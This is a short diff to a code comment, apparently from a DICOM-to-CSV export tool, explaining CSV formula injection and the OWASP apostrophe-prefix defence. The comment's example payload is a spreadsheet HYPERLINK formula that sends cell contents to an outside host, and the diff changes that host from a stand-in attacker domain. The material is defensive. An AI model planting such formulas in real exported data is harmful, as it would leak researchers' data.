@@ -1,7 +1,7 @@
 /**
  * CSV ("formula") injection: a spreadsheet that opens a CSV treats a cell beginning with
  * `=`, `+`, `-` or `@` as a formula, so a header value planted in a DICOM file (say a
- * Manufacturer of `=HYPERLINK("https://evil.example/?"&A1,"open")`) would run on the
+ * Manufacturer of `=HYPERLINK("https://example.com/?"&A1,"open")`) would run on the
  * researcher's machine and could send other cells away. OWASP's advice is to prefix such a
  * cell with an apostrophe, which spreadsheets show as text and do not evaluate. Tab and CR
  * lead the same list, because some spreadsheets skip them before looking for the formula sign.
